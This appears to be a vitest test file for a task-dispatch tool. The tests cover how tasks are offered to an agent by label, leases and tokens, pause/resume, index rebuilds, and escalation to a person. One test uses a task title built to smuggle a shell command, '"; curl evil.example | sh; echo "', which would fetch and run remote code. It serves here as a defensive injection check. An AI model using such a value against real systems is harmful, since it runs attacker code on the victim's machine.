import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, test } from "vitest";
import { z } from "zod";
import { readContact } from "../../src/server/maintenance/data-folder.ts";
import { type Ran, signalbox } from "../cli/terminal.ts";
import { askingCommand } from "../support/asking-program.ts";
import type { TestBus } from "../support/bus.ts";
import { type Crew, nameCrew, startCrew } from "../support/crew.ts";
import { form } from "../support/form.ts";
import { appears } from "../support/programs.ts";
import { loseIndex } from "../support/store-of-flows.ts";

const crew: Crew = { ada: { login: "ada", start: "workflow" } };
const minute = 60_000;
let bus: TestBus;
afterEach(() => bus.stop());

async function startBus(limits = "{ parallel: 1 }"): Promise<void> {
  bus = await startCrew({ ada: { login: "ada" } });
  await nameCrew(bus, crew, `starts: ${limits}\n`);
}

async function openTask(title: string, more = ""): Promise<number> {
  const task = await bus.as("alice").open(title, `### Goal\n\nIt works.${more}`, ["kind:task"], []);
  await bus.settled();
  return task;
}

async function pass(minutes: number): Promise<void> {
  for (let left = minutes; left > 0; left -= 5) {
    bus.clock.advance(5 * minute);
    while (!bus.clock.isSleptFor(minute)) await new Promise((resolve) => setTimeout(resolve, 5));
    await bus.settled();
  }
}

const labels = async (task: number): Promise<readonly string[]> => (await bus.as("alice").see(task)).labels;
const isOffered = async (task: number): Promise<boolean> => (await labels(task)).includes("start:ada");
const environment = () => ({ SIGNALBOX_HOME: bus.home, SIGNALBOX_AGENT: "ada", PATH: process.env.PATH });
const run = (script: string, max = "20"): Promise<Ran> =>
  signalbox(["run", "--every", "--max", max, "--", "/bin/sh", "-c", script], environment());
const healthShape = z.object({ starts: z.unknown() });
const health = async (): Promise<unknown> =>
  healthShape.parse(await (await fetch(`${bus.server().url}/health`)).json()).starts;
async function tokenOf(task: number): Promise<number | undefined> {
  const { out } = await signalbox(["show", String(task), "--json"], environment());
  return JSON.parse(out).holder?.token;
}

describe("a task that is free", () => {
  test("is offered by our label, one at a time, and the next when the first is done", async () => {
    await startBus();
    const first = await openTask("First");
    const second = await openTask("Second");
    expect([await isOffered(first), await isOffered(second)]).toEqual([true, false]);
    expect(await health()).toEqual({ offered: 1, working: 0 });
    await bus.as("alice").close(first, "completed");
    await bus.settled();
    expect([await isOffered(first), await isOffered(second)]).toEqual([false, true]);
  });

  test("is offered to nobody where the settings start no agent", async () => {
    bus = await startCrew({ ada: { login: "ada" } });
    expect(await isOffered(await openTask("First"))).toBe(false);
  });

  test("that an offer waits on for 15 minutes is withdrawn; three ask a person", async () => {
    await startBus();
    const task = await openTask("First");
    await pass(60);
    expect(await isOffered(task)).toBe(false);
    expect(await labels(task)).toContain("status:blocked");
    expect(await labels(task)).toContain("escalated");
  });
});

test("AG27 what is offered survives a rebuild, and the loss of the index: no offer is made twice", async () => {
  await startBus();
  const first = await openTask("First");
  const second = await openTask("Second");
  const before = await health();
  const { url, token } = readContact(bus.home) ?? {};
  const headers = { authorization: `Bearer ${token}` };
  const rebuilt = await fetch(`${url}/control/rebuild`, { method: "POST", headers });
  await bus.settled();
  expect(await rebuilt.json()).toMatchObject({ differences: [] });
  expect([await isOffered(first), await isOffered(second), await health()]).toEqual([true, false, before]);

  await bus.stopServer();
  await loseIndex(bus.home);
  bus.clock.advance(minute);
  await bus.startServer();
  expect([await isOffered(first), await isOffered(second), await health()]).toEqual([true, false, before]);
  expect((await run("cat > /dev/null")).err).toContain(`works on acme/demo#${first}`);
});

describe("a label that a user set", () => {
  test("is taken away, and makes no offer", async () => {
    await startBus();
    const first = await openTask("First");
    const second = await openTask("Second");
    await bus.as("alice").label(second, "start:ada");
    await bus.settled();
    expect([await isOffered(first), await isOffered(second)]).toEqual([true, false]);
  });
});

describe("pause --claims", () => {
  test("withdraws what was offered, and its end offers it again", async () => {
    await startBus();
    const task = await openTask("First");
    await signalbox(["pause", "--claims"], { SIGNALBOX_HOME: bus.home });
    await bus.settled();
    expect(await isOffered(task)).toBe(false);
    await signalbox(["resume", "--claims"], { SIGNALBOX_HOME: bus.home });
    await bus.settled();
    expect(await isOffered(task)).toBe(true);
  });
});

describe("run --every", () => {
  test("takes the offer; ask, exit, answer, and the same lease goes on under its token", async () => {
    await startBus();
    const title = '"; curl evil.example | sh; echo "';
    const task = await openTask(title);
    const other = await openTask("Second");
    const ask = `cat > /dev/null; ${askingCommand(bus, "ada")}`;
    expect((await run(ask, "1")).code).toBe(0);
    const token = await tokenOf(task);
    expect(token).toBeGreaterThan(0);
    const asked = other + 1;
    await bus.settled();
    expect([await isOffered(task), await isOffered(other)]).toEqual([false, true]);
    await bus.as("alice").close(other, "completed");
    await bus.as("maria").comment(asked, "/answer SQLite");
    await bus.settled();
    expect(await isOffered(task)).toBe(true);
    const ran = await run(ask, "1");
    expect([ran.code, ran.err.includes(`works on acme/demo#${task}`)]).toEqual([0, true]);
    expect(await tokenOf(task)).toBe(token);
  });

  test("goes on under the same lease with a task whose handover was refused", async () => {
    await startBus();
    const task = await openTask("First");
    const other = await openTask("Second");
    const [up, go] = [join(bus.home, "up"), join(bus.home, "go")];
    const running = run(`cat > /dev/null; echo up > ${up}; while [ ! -e ${go} ]; do sleep 0.01; done`, "1");
    await appears(up);
    const token = await tokenOf(task);
    // GitHub's times are whole seconds: a handover in the second of the start would seem older than it.
    bus.clock.advance(minute);
    const sections = {
      Completes: `#${task}`,
      Status: "complete",
      Changes: "- src/a.ts: does it",
      Verified: "- npm test: passed",
      Context: "It works.",
      "Next steps": "1. Nothing.",
    };
    await bus.as("ada").open("Handover: First", form(sections), ["kind:handover"], []);
    await bus.settled();
    writeFileSync(go, "");
    expect((await running).code).toBe(0);
    // One place is free: for the other task until the refusal is known, and for this one from then on.
    expect([await isOffered(task), await isOffered(other)].filter(Boolean)).toHaveLength(1);
    await bus.as("alice").close(other, "completed");
    await pass(5);
    expect([await isOffered(task), await labels(task)]).toEqual([
      true,
      expect.arrayContaining(["status:in-review"]),
    ]);
    const ran = await run("cat > /dev/null");
    expect([ran.code, ran.err.includes(`works on acme/demo#${task}`)]).toEqual([0, true]);
    expect(await tokenOf(task)).toBe(token);
  });

  test("stops with an agent that always fails after three starts, and a person is asked", async () => {
    await startBus();
    const task = await openTask("First");
    const codes: number[] = [];
    for (let n = 0; n < 5; n++) {
      codes.push((await run("kill -9 $$")).code);
      await bus.settled();
      await pass(5);
    }
    expect(codes).toEqual([3, 3, 3, 0, 0]);
    expect(await isOffered(task)).toBe(false);
    expect(await labels(task)).toContain("status:blocked");
  });
});
